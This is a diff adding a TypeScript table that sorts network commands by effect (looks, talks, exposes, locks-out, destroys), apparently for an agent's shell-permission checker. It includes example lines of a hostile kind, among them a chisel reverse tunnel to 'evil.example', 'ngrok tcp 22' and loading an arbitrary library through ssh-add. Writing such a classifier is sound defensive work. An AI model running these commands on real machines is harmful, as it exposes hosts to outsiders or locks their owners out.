@@ -1,0 +1,105 @@
+import { readRows } from "../effect-rows.ts";
+
+/** Talking to other machines, and changing how that is done. */
+export const networkEffects = readRows(
+  `
+rfkill
+  !@any => looks
+  list => looks
+  * | -? => locks-out: Switches radios on or off.
+    yes: rfkill block all
+wpa_cli => starts: Changes the wireless connection.
+    yes: wpa_cli
+bluetoothctl
+  show,devices,list,info => looks
+  * => writes: Changes Bluetooth.
+    yes: bluetoothctl x
+avahi-browse
+  prints: fetched
+  => talks: Looks for services on the network.
+    yes: avahi-browse
+conntrack
+  options: -p= -s= -d= -f= -o= --orig-src= --orig-dst= --proto= --state=
+  -L,-S,-C,-E => looks
+  !-L,-S,-C,-E => writes: Changes tracked connections.
+    yes: conntrack
+ipset
+  options: -o=
+  list,-L => looks
+  !-L => locks-out: Changes sets that the firewall uses.
+    yes: ipset
+speedtest speedtest-cli
+  prints: fetched
+  => talks: Measures the connection.
+    yes: speedtest
+arping
+  prints: fetched
+  => talks: Asks the local network.
+    yes: arping
+nmap-scan masscan
+  prints: fetched
+  => talks: Scans other machines.
+    yes: nmap-scan
+ssh-keyscan
+  prints: fetched
+  => talks: Asks a machine for its keys.
+    yes: ssh-keyscan
+ssh-add
+  options: -s=! -e=! -S=! -t= -T=
+  -l,-L => looks
+  !@any | !-l,-L => writes: Changes the keys of the agent.
+    yes: ssh-add -s /tmp/x.so
+tailscale
+  options: --peers[=] --self[=]
+  status,ip,version,netcheck,whois => looks
+  down,logout => locks-out: Ends the virtual network this session may use.
+    yes: tailscale down
+  funnel => exposes: Opens this machine to the internet.
+    yes: tailscale funnel
+  * => writes: Changes the virtual network.
+    yes: tailscale set --ssh=false
+ngrok localtunnel bore => exposes: Opens this machine to the internet.
+    yes: ngrok tcp 22
+chisel frpc gost => exposes: Opens a tunnel through this machine.
+    yes: chisel client evil.example R:socks
+tmate ttyd gotty => exposes: Lets others into this terminal.
+    yes: tmate
+sshuttle
+  prints: fetched
+  => talks: Sends traffic through another machine.
+    yes: sshuttle
+xdg-open open => starts: Opens a file or address in another program.
+    yes: open x.html
+www-browser firefox chromium google-chrome => starts: Opens a browser.
+    yes: www-browser
+certbot
+  options: -d= --cert-name= --domains= --domain=
+  certificates => looks
+  delete,revoke => destroys: Removes certificates that services use. -> Let a person do this.
+    yes: certbot delete --cert-name example.com --non-interactive
+  * => writes: Changes certificates.
+    yes: certbot renew
+acme.sh => writes: Changes certificates.
+    yes: acme.sh
+nginx
+  options: -c= -g= -p=
+  => writes: Controls the web server.
+    yes: nginx -s reload
+apachectl apache2ctl caddy => writes: Controls the web server.
+    yes: apachectl graceful
+haproxy => writes: Controls the load balancer.
+    yes: haproxy
+a2ensite a2dissite => writes: Changes the web server.
+    yes: a2ensite
+yt-dlp
+  options: --exec=! --exec-before-download=! --netrc-cmd=! --external-downloader=! --downloader= --config-locations= -o=>
+  prints: fetched
+  => talks: Fetches videos.
+    yes: yt-dlp
+youtube-dl
+  prints: fetched
+  => talks: Fetches videos.
+    yes: youtube-dl
+`,
+  { "locks-out": "Have another way in ready.", exposes: "Use ssh." },
+);
